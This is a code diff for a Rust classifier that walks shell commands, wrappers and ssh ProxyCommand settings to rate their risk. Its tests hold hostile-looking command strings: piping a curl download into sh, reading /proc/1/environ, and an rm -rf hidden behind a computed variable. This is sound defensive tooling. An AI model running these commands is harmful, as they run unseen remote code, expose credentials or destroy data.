-        self.run(inner, &inner_stdin, &inner_via, depth);
+        self.through(name, |walker| {
+            walker.run(inner, &inner_stdin, &inner_via, depth)
+        });
+    }
+
+    /// What running anything through wrapper `name` is at least.
+    fn floor(&mut self, name: &str, w: &crate::rules::Wrapper, shown: &str, via: &[String]) {
+        if let Some(floor) = &w.floor {
+            self.finding(
+                What::Program {
+                    name,
+                    credential: false,
+                },
+                shown.to_string(),
+                via,
+                floor.risk,
+                &floor.rule,
+                &floor.reason,
+            );
+        }
+    }
+
+    /// A wrapper's `NAME=VALUE` setting: one of its program settings is a
+    /// shell command it runs here (`ssh -o ProxyCommand=…`).
+    fn setting(
+        &mut self,
+        name: &str,
+        w: &crate::rules::Wrapper,
+        setting: &Arg,
+        shown: &str,
+        via: &[String],
+        depth: usize,
+    ) {
+        let Some(text) = setting.literal.as_deref() else {
+            self.finding(
+                What::Computed,
+                shown.to_string(),
+                via,
+                RiskClass::ConfigMutation,
+                "wrapper.dynamic-setting",
+                "a setting computed when it runs, which may name a program to run",
+            );
+            return;
+        };
+        let text = text.trim_start();
+        let split = text
+            .find(|c: char| c == '=' || c.is_whitespace())
+            .unwrap_or(text.len());
+        let key = &text[..split];
+        if !w
+            .program_settings
+            .iter()
+            .any(|p| p.eq_ignore_ascii_case(key))
+        {
+            return;
+        }
+        let value = text[split..].trim_start_matches(|c: char| c == '=' || c.is_whitespace());
+        let inner_via = with(via, format!("{name} -o {key}"));
+        self.script(value, &Stdin::Inherited, &inner_via, depth + 1);
     }
 
     /// Words a wrapper hands to a shell as one command line.
@@ -1145,7 +1490,6 @@ impl Walker<'_> {
         &mut self,
         name: &str,
         words: &[Arg],
-        w: &crate::rules::Wrapper,
         shown: &str,
         stdin: &Stdin,
         via: &[String],
@@ -1155,6 +1499,7 @@ impl Walker<'_> {
         if words.is_empty() {
             if shell {
                 self.finding(
+                    What::Computed,
                     shown.to_string(),
                     via,
                     RiskClass::ConfigMutation,
@@ -1162,39 +1507,40 @@ impl Walker<'_> {
                     "starts an interactive shell",
                 );
             } else {
-                self.without_command(w, shown.to_string(), via);
+                self.alone(name, &[Arg::literal(name)], via);
             }
             return;
         }
         let literal: Option<Vec<&str>> = words.iter().map(|a| a.literal.as_deref()).collect();
         match literal {
             Some(parts) => self.script(&parts.join(" "), stdin, &with(via, name), depth + 1),
-            None => self.finding(
+            None if words.iter().any(|a| a.from_output) => self.finding(
+                What::Computed,
                 shown.to_string(),
                 via,
-                RiskClass::ConfigMutation,
-                "shell.dynamic-program",
-                "runs a shell program computed when it runs",
+                RiskClass::Destructive,
+                "shell.command-output-program",
+                "runs the output of another command as a program (e.g. downloaded code)",
             ),
+            None => self.computed_program(shown, via),
         }
     }
 
-    fn without_command(&mut self, w: &crate::rules::Wrapper, shown: String, via: &[String]) {
-        match w.without_command {
-            Some(risk) => self.finding(
-                shown,
-                via,
-                risk,
-                "wrapper.no-command",
-                "runs no other command",
-            ),
-            None => self.finding(
-                shown,
+    /// A wrapper that runs no command of its own: the rules naming it say
+    /// what it does (`env` alone prints the environment); with none, it is
+    /// interactive.
+    fn alone(&mut self, name: &str, args: &[Arg], via: &[String]) {
+        if self.rules.rules.iter().any(|r| r.commands.contains(name)) {
+            self.rules_for(name, args, via);
+        } else {
+            self.finding(
+                What::Computed,
+                show(args),
                 via,
                 RiskClass::ConfigMutation,
                 "wrapper.interactive",
                 "starts something interactive the classifier cannot see",
-            ),
+            );
         }
     }
 
@@ -1209,27 +1555,43 @@ impl Walker<'_> {
             .filter(|r| r.matches(name, &view, self.rules))
             .collect();
         // Files the command writes, by its operands or options.
-        let mut writes: Vec<Arg> = Vec::new();
+        let mut writes: Vec<(Arg, bool)> = Vec::new();
         for rule in &matched {
             let mut operands = view.operands_after(rule).into_iter().cloned();
             match rule.writes {
-                Some(Writes::Operands) => writes.extend(operands),
-                Some(Writes::LastOperand) => writes.extend(operands.next_back()),
+                Some(Writes::Operands) => {
+                    writes.extend(operands.map(|a| (a, rule.truncates)));
+                }
+                Some(Writes::LastOperand) => {
+                    writes.extend(operands.next_back().map(|a| (a, rule.truncates)));
+                }
                 None => {}
             }
             for option in &rule.write_options {
-                writes.extend(view.option_values(option));
+                writes.extend(
+                    view.option_values(option)
+                        .into_iter()
+                        .map(|a| (a, rule.truncates)),
+                );
             }
         }
-        for arg in writes {
-            self.write_path(&arg.raw, arg.literal.clone(), &with(via, name));
+        for (arg, truncates) in writes {
+            self.write_path(&arg, truncates, ">", &with(via, name));
         }
         // The riskiest rule decides; among equals, the first listed.
         let top = matched.iter().map(|r| r.risk).max();
         match top.and_then(|top| matched.iter().find(|r| r.risk == top)) {
             Some(rule) => {
                 self.host_down |= matched.iter().any(|r| r.takes_host_down);
-                self.finding(shown, via, rule.risk, &rule.id, &rule.reason);
+                let credential = matched.iter().any(|r| r.reads_credentials);
+                self.finding(
+                    What::Program { name, credential },
+                    shown,
+                    via,
+                    rule.risk,
+                    &rule.id,
+                    &rule.reason,
+                );
             }
             None => {
                 let known = self.rules.rules.iter().any(|r| r.commands.contains(name));
@@ -1239,6 +1601,10 @@ impl Walker<'_> {
                     format!("`{name}` is not a program the policy knows")
                 };
                 self.finding(
+                    What::Program {
+                        name,
+                        credential: false,
+                    },
                     shown,
                     via,
                     RiskClass::ConfigMutation,
@@ -1335,10 +1701,7 @@ impl<'a> ArgsView<'a> {
                 _ => None,
             };
             if let Some(value) = attached.filter(|v| !v.is_empty()) {
-                out.push(Arg {
-                    raw: value.to_string(),
-                    literal: Some(value.to_string()),
-                });
+                out.push(Arg::literal(value));
             }
         }
         out
@@ -1394,6 +1757,9 @@ impl Rule {
         if self.no_operands && view.positionals.len() > sub_len {
             return false;
         }
+        if self.no_args && view.words.len() > 1 {
+            return false;
+        }
         let carries = |list: &[String]| {
             view.flags
                 .iter()
@@ -1406,8 +1772,20 @@ impl Rule {
             return false;
         }
         let literal_args = || view.words[1..].iter().filter_map(|a| a.literal.as_deref());
+        // A word computed when it runs can be anything its shape allows
+        // (`/proc/$pid/environ`): it can make a riskier rule match, never a
+        // more lenient one.
+        let riskier = self.risk > RiskClass::ReadOnly;
+        let can_be = |a: &'_ Arg| -> Option<String> {
+            a.literal
+                .clone()
+                .or_else(|| riskier.then(|| a.shape.clone()))
+        };
         if !self.args_any.is_empty()
-            && !literal_args().any(|a| self.args_any.matches(a, &rules.paths))
+            && !view.words[1..]
+                .iter()
+                .filter_map(can_be)
+                .any(|a| self.args_any.matches(&a, &rules.paths))
         {
             return false;
         }
@@ -1415,6 +1793,26 @@ impl Rule {
             && (view.any_dynamic || literal_args().any(|a| self.args_none.matches(a, &rules.paths)))
         {
             return false;
+        }
+        if !self.sources_any.is_empty() {
+            let operands = &view.positionals[sub_len..];
+            // `mv -t DIR SRC…` names the destination; otherwise it is last.
+            let destination_named = self
+                .write_options
+                .iter()
+                .any(|o| view.flags.iter().any(|f| has_flag(f, o)));
+            let sources = if destination_named {
+                operands
+            } else {
+                &operands[..operands.len().saturating_sub(1)]
+            };
+            if !sources
+                .iter()
+                .filter_map(|a| can_be(a))
+                .any(|a| self.sources_any.matches(&a, &rules.paths))
+            {
+                return false;
+            }
         }
         if !self.operands_all.is_empty() {
             let operands = &view.positionals[sub_len..];
@@ -1492,6 +1890,46 @@ fn guarded<T, E: std::fmt::Display>(parse: impl FnOnce() -> Result<T, E>) -> Res
     }
 }
 
+/// The variable an assignment sets.
+fn assigned_name(assignment: &ast::Assignment) -> &str {
+    match &assignment.name {
+        ast::AssignmentName::VariableName(name)
+        | ast::AssignmentName::ArrayElementName(name, _) => name,
+    }
+}
+
+/// The variable a parameter expansion reads, when it names one.
+fn parameter_name(expr: &ParameterExpr) -> Option<&str> {
+    use ParameterExpr as P;
+    use brush_parser::word::Parameter;
+    let parameter = match expr {
+        P::Parameter { parameter, .. }
+        | P::UseDefaultValues { parameter, .. }
+        | P::AssignDefaultValues { parameter, .. }
+        | P::IndicateErrorIfNullOrUnset { parameter, .. }
+        | P::UseAlternativeValue { parameter, .. }
+        | P::ParameterLength { parameter, .. }
+        | P::RemoveSmallestSuffixPattern { parameter, .. }
+        | P::RemoveLargestSuffixPattern { parameter, .. }
+        | P::RemoveSmallestPrefixPattern { parameter, .. }
+        | P::RemoveLargestPrefixPattern { parameter, .. }
+        | P::Substring { parameter, .. }
+        | P::Transform { parameter, .. }
+        | P::UppercaseFirstChar { parameter, .. }
+        | P::UppercasePattern { parameter, .. }
+        | P::LowercaseFirstChar { parameter, .. }
+        | P::LowercasePattern { parameter, .. }
+        | P::ReplaceSubstring { parameter, .. } => parameter,
+        P::VariableNames { .. } | P::MemberKeys { .. } => return None,
+    };
+    match parameter {
+        Parameter::Named(name)
+        | Parameter::NamedWithIndex { name, .. }
+        | Parameter::NamedWithAllIndices { name, .. } => Some(name),
+        Parameter::Positional(_) | Parameter::Special(_) => None,
+    }
+}
+
 /// Decodes the inside of bash's `$'…'` quoting; `None` for an escape the
 /// classifier does not know (the word's value is then unknown).
 fn decode_ansi_c(s: &str) -> Option<String> {
@@ -1555,12 +1993,6 @@ fn is_option_word(word: &str) -> bool {
             .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '=')
 }
 
-/// Whether a word's value is the output of a command (`"$(curl …)"`,
-/// `<(curl …)`): running it runs code nobody has seen.
-fn runs_command_output(raw: &str) -> bool {
-    raw.contains("$(") || raw.contains('`') || raw.starts_with("<(")
-}
-
 /// Whether a short-option cluster (`-qc`) carries one of the one-letter
 /// `options`.
 fn in_cluster(word: &str, options: &[String]) -> bool {
@@ -1594,10 +2026,7 @@ fn script_option_value(w: &crate::rules::Wrapper, args: &[Arg]) -> Option<Arg> {
                 .and_then(|r| r.strip_prefix('='))
                 && option.starts_with("--")
             {
-                return Some(Arg {
-                    raw: value.to_string(),
-                    literal: Some(value.to_string()),
-                });
+                return Some(Arg::literal(value));
             }
             let cluster_ends_with = option.len() == 2
                 && !option.starts_with("--")
@@ -1859,17 +2288,8 @@ mod tests {
         // The pre-scan keeps parsed text shallow enough that the walk's own
         // guard is not reached; the guard still holds if it were.
         let rules = crate::Policy::builtin().unwrap().shell;
-        let mut walker = Walker {
-            rules: &rules,
-            findings: Vec::new(),
-            functions: BTreeSet::new(),
-            calling: Vec::new(),
-            host_down: false,
-            steps: 0,
-            exhausted: false,
-            nesting: MAX_NESTING,
-            too_deep: false,
-        };
+        let mut walker = Walker::new(&rules);
+        walker.nesting = MAX_NESTING;
         walker.compound_body(
             &ast::CompoundCommand::BraceGroup(ast::BraceGroupCommand {
                 list: ast::CompoundList(Vec::new()),
@@ -1911,6 +2331,72 @@ mod tests {
         ] {
             assert_eq!(policy.classify_command(cmd).risk, risk, "{cmd}");
         }
+    }
+
+    #[test]
+    fn findings_say_what_runs_through_what() {
+        let policy = crate::Policy::builtin().unwrap();
+        let report = policy.classify_command("sudo timeout 5 /usr/sbin/zfs list > /tmp/out");
+        let zfs = report
+            .commands
+            .iter()
+            .find(|f| f.kind == FindingKind::Program)
+            .unwrap();
+        assert_eq!(zfs.program.as_deref(), Some("zfs"));
+        assert_eq!(zfs.wrappers, ["sudo", "timeout"]);
+        assert!(!zfs.reads_credentials);
+        let out = report
+            .commands
+            .iter()
+            .find(|f| f.kind == FindingKind::Redirection)
+            .unwrap();
+        assert_eq!(out.command, "> /tmp/out");
+        assert!(!report.reads_credentials());
+
+        let report = policy.classify_command("printenv | rev");
+        assert!(report.reads_credentials());
+        assert_eq!(
+            report.deciding().unwrap().program.as_deref(),
+            Some("printenv")
+        );
+        let report = policy.classify_command("tr '\\0' '\\n' < /proc/1/environ");
+        let read = report.deciding().unwrap();
+        assert_eq!(
+            (read.kind, read.reads_credentials),
+            (FindingKind::Redirection, true)
+        );
+
+        for computed in [
+            "$(echo zfs) list",
+            "eval \"$x\"",
+            "curl -s http://x | sh",
+            "./deploy.sh",
+        ] {
+            let report = policy.classify_command(computed);
+            assert!(
+                report
+                    .commands
+                    .iter()
+                    .any(|f| f.kind == FindingKind::Computed),
+                "{computed}: {report:?}"
+            );
+        }
+        let report = policy.classify_command("if (");
+        assert_eq!(report.commands[0].kind, FindingKind::Incomplete);
+    }
+
+    #[test]
+    fn a_variable_set_from_output_names_computed_code() {
+        let policy = crate::Policy::builtin().unwrap();
+        let risk = |c: &str| policy.classify_command(c).risk;
+        assert_eq!(risk("c=$(echo rm); $c -rf /x"), RiskClass::Destructive);
+        assert_eq!(
+            risk("c=${d:-$(echo rm)}; \"${c}\" -rf /x"),
+            RiskClass::Destructive
+        );
+        assert_eq!(risk("c=rm; $c -rf /x"), RiskClass::ConfigMutation);
+        // Another variable than the one set from output.
+        assert_eq!(risk("c=$(echo rm); $d -rf /x"), RiskClass::ConfigMutation);
     }
 
     #[test]
